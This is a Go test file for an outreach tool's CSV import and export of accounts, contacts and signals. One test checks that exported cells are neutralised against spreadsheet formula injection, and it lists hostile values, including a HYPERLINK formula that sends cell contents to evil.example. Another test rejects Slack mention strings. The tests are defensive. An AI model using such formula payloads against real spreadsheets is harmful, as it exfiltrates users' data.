package store_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"outreachbot/store"
	"outreachbot/store/storetest"
)

func importCSV(t *testing.T, st *store.Store, kind, data string) store.CSVImport {
	t.Helper()
	res, err := st.ImportCSV(context.Background(), kind, strings.NewReader(data), store.CSVOptions{Now: time.Date(2024, 10, 8, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatalf("import %s: %v", kind, err)
	}
	return res
}

func wantErrors(t *testing.T, res store.CSVImport, want ...string) {
	t.Helper()
	var got []string
	for _, e := range res.Errors {
		got = append(got, fmt.Sprintf("%d/%s", e.Row, e.Column))
	}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("row errors = %v, want %v\n%v", got, want, res.Errors)
	}
	if res.Rejected != len(want) {
		t.Errorf("rejected %d, want %d", res.Rejected, len(want))
	}
}

const accountsCSV = "\ufeffCompany,Website,Employees,Backstage Stage,Industry,Aliases,Favourite colour\n" +
	"Nordwind Logistics,https://www.nordwind.example/,450,evaluating,logistics,Nordwind; NWL,blue\n" +
	"Okafor Health,okafor-health.example,\"1,200\",in production,healthcare,,green\n" +
	"Bad Headcount,bad.example,lots,,,,\n" +
	"Bad Stage,stage.example,10,shipping it,,,\n" +
	",empty.example,5,,,,\n" +
	"Too,Many,Fields,,,,,,\n" +
	"nordwind logistics,,,production,,,red\n"

func TestImportCSV_accountsMapsHeadersAndReportsBadRows(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		res := importCSV(t, st, store.CSVAccounts, accountsCSV)
		if res.Rows != 7 || res.Imported != 3 {
			t.Errorf("rows %d, imported %d; want 7 read, 3 written (the last merges)", res.Rows, res.Imported)
		}
		wantErrors(t, res, "4/employees", "5/stage", "6/name", "7/")
		if res.Columns["Company"] != "name" || res.Columns["Website"] != "domain" || res.Columns["Backstage Stage"] != "stage" ||
			len(res.Ignored) != 1 || res.Ignored[0] != "Favourite colour" {
			t.Errorf("header mapping = %v, ignored %v", res.Columns, res.Ignored)
		}
		var accs []store.Account
		st.DB().Order("name").Find(&accs)
		if len(accs) != 2 {
			t.Fatalf("%d accounts, want 2: %+v", len(accs), accs)
		}
		n := accs[0]
		if n.Name != "Nordwind Logistics" || n.Domain != "nordwind.example" || n.Employees != 450 || n.Stage != store.StageProduction ||
			len(n.Aliases) != 2 || n.Source != "csv" {
			t.Errorf("merged account = %+v", n)
		}
		if accs[1].Employees != 1200 || accs[1].Stage != store.StageProduction {
			t.Errorf("second account = %+v", accs[1])
		}
	})
}

func TestImportCSV_contacts(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		res := importCSV(t, st, store.CSVContacts, "Full Name,Job Title,Company,Company Domain,Email,GitHub,DNC\n"+
			"Ada Nord,Head of Platform,Nordwind Logistics,,ada@nordwind.example,adanord,no\n"+
			"Obi Okafor,VP Engineering,,okafor-health.example,obi@okafor-health.example,,yes\n"+
			"Nobody,CTO,Unknown Corp,,x@unknown.example,,\n"+
			"Bad Mail,Engineer,Nordwind Logistics,,not-an-address,,\n"+
			"Ada Nord,Head of Platform Engineering,Nordwind Logistics,,,,\n")
		if res.Imported != 3 {
			t.Errorf("imported %d, want 3", res.Imported)
		}
		wantErrors(t, res, "4/account", "5/email")
		var cs []store.Contact
		st.DB().Order("name").Find(&cs)
		if len(cs) != 2 {
			t.Fatalf("%d contacts, want 2", len(cs))
		}
		if cs[0].Title != "Head of Platform Engineering" || cs[0].Email != "ada@nordwind.example" || len(cs[0].Handles) != 1 || cs[0].Handles[0] != "github.com/adanord" {
			t.Errorf("merged contact = %+v", cs[0])
		}
		if !cs[1].DoNotContact {
			t.Error("do-not-contact flag lost")
		}
	})
}

func TestImportCSV_signalsIdempotentWithRowErrors(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		data := "kind,title,account,url,date,summary\n" +
			"job_posting,Nordwind hires a platform engineer,Nordwind Logistics,https://jobs.example/1,2024-10-01,Backstage and Kubernetes\n" +
			"blog_post,Okafor on their portal,Okafor Health,https://blog.example/okafor,2024-09-30T10:00:00Z,\n" +
			"github_issue,No account is fine,,https://github.com/backstage/backstage/issues/1,,\n" +
			"rumour,Unknown kind,Nordwind Logistics,,,\n" +
			"blog_post,Bad date,Nordwind Logistics,,yesterday,\n" +
			"blog_post,Unknown account,Nowhere Inc,,,\n" +
			"blog_post,Bad URL,,ftp://x,,\n" +
			"blog_post,,Nordwind Logistics,,,\n" +
			"job_posting,Nordwind hires a platform engineer (again),Nordwind Logistics,https://jobs.example/1,2024-10-01,\n"
		res := importCSV(t, st, store.CSVSignals, data)
		if res.Bulk != (d == store.Postgres) {
			t.Errorf("bulk = %v on %s", res.Bulk, d)
		}
		if res.Imported != 3 || res.Unchanged != 1 {
			t.Errorf("imported %d, unchanged %d; want 3 and 1 (the same URL twice)", res.Imported, res.Unchanged)
		}
		wantErrors(t, res, "5/kind", "6/occurred_at", "7/account", "8/url", "9/title")
		again := importCSV(t, st, store.CSVSignals, data)
		if again.Imported != 0 || again.Unchanged != 4 {
			t.Errorf("re-import: imported %d, unchanged %d; want 0 and 4", again.Imported, again.Unchanged)
		}
		var sig store.Signal
		if err := st.DB().Where("url = ?", "https://blog.example/okafor").Take(&sig).Error; err != nil {
			t.Fatal(err)
		}
		if sig.AccountID == nil || sig.OccurredAt == nil || !sig.OccurredAt.Equal(time.Date(2024, 9, 30, 10, 0, 0, 0, time.UTC)) || sig.Source != "csv" {
			t.Errorf("signal = %+v", sig)
		}
	})
}

// failingReader returns its data, then an error: a file that breaks part-way.
type failingReader struct {
	r io.Reader
}

func (f *failingReader) Read(p []byte) (int, error) {
	n, err := f.r.Read(p)
	if err == io.EOF {
		return n, errors.New("disk read error")
	}
	return n, err
}

func TestImportCSV_failedFileWritesNothing(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		ctx := context.Background()
		st := storetest.Open(t, d)
		importCSV(t, st, store.CSVAccounts, accountsCSV)
		var rows strings.Builder
		rows.WriteString("kind,title,account,url\n")
		for i := range 3000 {
			fmt.Fprintf(&rows, "blog_post,Post %d,Nordwind Logistics,https://blog.example/%d\n", i, i)
		}
		for _, kind := range []string{store.CSVSignals, store.CSVAccounts} {
			data := rows.String()
			if kind == store.CSVAccounts {
				data = strings.Replace(accountsCSV, "Nordwind", "Südwind", -1) + strings.Repeat("Filler Co,filler.example,1,,,,\n", 100)
			}
			_, err := st.ImportCSV(ctx, kind, &failingReader{r: strings.NewReader(data)}, store.CSVOptions{})
			if err == nil {
				t.Fatalf("%s: a file that failed part-way imported without error", kind)
			}
		}
		var n int64
		st.DB().Model(&store.Signal{}).Count(&n)
		if n != 0 {
			t.Errorf("%d signals written by a failed file", n)
		}
		st.DB().Model(&store.Account{}).Count(&n)
		if n != 2 {
			t.Errorf("%d accounts after a failed file, want the 2 from before", n)
		}
		_, err := st.ImportCSV(ctx, store.CSVSignals, strings.NewReader("title,url\nx,https://x\n"), store.CSVOptions{})
		if !errors.Is(err, store.ErrCSVHeader) || !strings.Contains(err.Error(), "kind") {
			t.Errorf("missing required column: %v", err)
		}
		if _, err := st.ImportCSV(ctx, store.CSVSignals, strings.NewReader(""), store.CSVOptions{}); !errors.Is(err, store.ErrCSVHeader) {
			t.Errorf("empty file: %v", err)
		}
	})
}

func TestExportCSV_roundTrips(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		ctx := context.Background()
		src := storetest.OpenSeeded(t, d)
		dst := storetest.Open(t, d)
		for _, kind := range store.CSVKinds {
			var buf bytes.Buffer
			n, err := src.ExportCSV(ctx, kind, &buf)
			if err != nil {
				t.Fatal(err)
			}
			if n == 0 {
				t.Fatalf("exported no %s", kind)
			}
			res, err := dst.ImportCSV(ctx, kind, &buf, store.CSVOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if res.Rejected != 0 || res.Imported != n {
				t.Errorf("%s: exported %d, re-imported %d, rejected %v", kind, n, res.Imported, res.Errors)
			}
		}
		for _, table := range []string{"accounts", "contacts", "signals"} {
			var a, b int64
			src.DB().Table(table).Count(&a)
			dst.DB().Table(table).Count(&b)
			if a != b {
				t.Errorf("%s: %d exported, %d after the round trip", table, a, b)
			}
		}
	})
}

// BenchmarkImportCSV_signals loads 1,000,000 signals (OUTREACHBOT_BENCH_ROWS overrides) into
// PostgreSQL through COPY and reports rows/s. scripts/bench-csv.sh runs it and checks ≥ 50,000.
func BenchmarkImportCSV_signals(b *testing.B) {
	rows := 1_000_000
	if v := os.Getenv("OUTREACHBOT_BENCH_ROWS"); v != "" {
		fmt.Sscan(v, &rows)
	}
	ctx := context.Background()
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		st := storetest.Open(b, store.Postgres)
		var accounts bytes.Buffer
		accounts.WriteString("name,domain,industry\n")
		for a := range 1000 {
			fmt.Fprintf(&accounts, "Bench Account %d,bench%d.example,software\n", a, a)
		}
		if _, err := st.ImportCSV(ctx, store.CSVAccounts, &accounts, store.CSVOptions{}); err != nil {
			b.Fatal(err)
		}
		data := benchSignals(rows)
		size := len(data)
		b.StartTimer()
		start := time.Now()
		res, err := st.ImportCSV(ctx, store.CSVSignals, bytes.NewReader(data), store.CSVOptions{})
		el := time.Since(start)
		if err != nil {
			b.Fatal(err)
		}
		if res.Imported != rows || res.Rejected != 0 || !res.Bulk {
			b.Fatalf("imported %d of %d (rejected %d, bulk %v)", res.Imported, rows, res.Rejected, res.Bulk)
		}
		b.ReportMetric(float64(rows)/el.Seconds(), "rows/s")
		b.Logf("%d signals (%.0f MB of CSV) into PostgreSQL in %s: %.0f rows/s", rows, float64(size)/1e6, el.Round(time.Millisecond), float64(rows)/el.Seconds())
	}
}

// benchSignals makes a realistic signals CSV: an account, kind, title, summary, URL and date each.
func benchSignals(n int) []byte {
	kinds := []string{"job_posting", "github_issue", "github_pr", "blog_post", "conference_talk", "community_post"}
	var buf bytes.Buffer
	buf.Grow(n * 190)
	buf.WriteString("account,kind,title,summary,url,person,occurred_at\n")
	day := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range n {
		fmt.Fprintf(&buf, "Bench Account %d,%s,Signal %d about the developer portal,\"Platform team, Backstage and Kubernetes; item %d\",https://signals.example/%d,Person %d,%s\n",
			i%1000, kinds[i%len(kinds)], i, i, i, i%5000, day.Add(time.Duration(i%525600)*time.Minute).Format(time.RFC3339))
	}
	return buf.Bytes()
}

// TestExportCSV_neutralisesFormulas: a stored value a spreadsheet would run as a formula is
// exported as text ('=…) and comes back unchanged on import.
func TestExportCSV_neutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1 boss", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		src := storetest.Open(t, d)
		var in bytes.Buffer
		w := csv.NewWriter(&in)
		w.Write([]string{"name", "domain", "industry"})
		for i, h := range hostile {
			w.Write([]string{fmt.Sprintf("Formula %d", i), fmt.Sprintf("formula%d.example", i), h})
		}
		w.Flush()
		csvIn := in.String()
		if res := importCSV(t, src, store.CSVAccounts, csvIn); res.Rejected != 0 {
			t.Fatalf("import: %v", res.Errors)
		}
		var out bytes.Buffer
		if _, err := src.ExportCSV(ctx, store.CSVAccounts, &out); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("exported cell %q would run as a formula", cell)
				}
			}
		}
		dst := storetest.Open(t, d)
		if res, err := dst.ImportCSV(ctx, store.CSVAccounts, &out, store.CSVOptions{}); err != nil || res.Rejected != 0 {
			t.Fatalf("re-import: %v %v", err, res.Errors)
		}
		var got []string
		dst.DB().Table("accounts").Order("name").Pluck("industry", &got)
		for i, h := range hostile {
			if want := strings.TrimSpace(h); i >= len(got) || got[i] != want {
				t.Errorf("industry %d after the round trip = %q, want %q", i, got, want)
			}
		}
	})
}

func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx", "Acme": "Acme", "": "", "'quoted": "'quoted"} {
		if got := store.SpreadsheetSafe(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// TestImportCSV_ownerMustBeASlackUserID: an owner that is not a user id is a row error, never a
// mention waiting to happen.
func TestImportCSV_ownerMustBeASlackUserID(t *testing.T) {
	st := storetest.Open(t, store.SQLite)
	res := importCSV(t, st, store.CSVAccounts, "name,owner_user_id\nGood,U0123ABC\nBad,<!channel>\nWorse,<@U1|x>\n")
	wantErrors(t, res, "3/owner_user_id", "4/owner_user_id")
}
